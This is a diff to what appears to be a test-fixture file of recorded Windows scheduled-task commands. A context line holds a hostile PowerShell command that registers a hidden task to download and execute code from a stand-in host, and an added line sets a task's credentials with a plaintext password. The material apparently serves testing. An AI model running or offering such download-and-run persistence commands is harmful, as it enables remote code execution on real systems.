@@ -94,6 +94,10 @@ export const recordings = {
       "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://cdn.northwind-update.example/p')\"\r\nRegister-ScheduledTask -TaskName 'Sync' -Action $a",
     ),
   ],
+  'command-triggers.xml': () => [
+    run(45, 'schtasks /create /sc ONIDLE /i 5 /tn Screen /tr C:\\Windows\\System32\\calc.exe'),
+    run(46, 'schtasks /Change /TN "\\Northwind\\Nightly" /RU corp\\m.keller /RP hunter2'),
+  ],
   'command-near-queries.xml': () => [
     run(51, 'schtasks /query /tn "\\Northwind\\Nightly" /v /fo list'),
     run(52, 'schtasks /run /tn cmd.exe'),
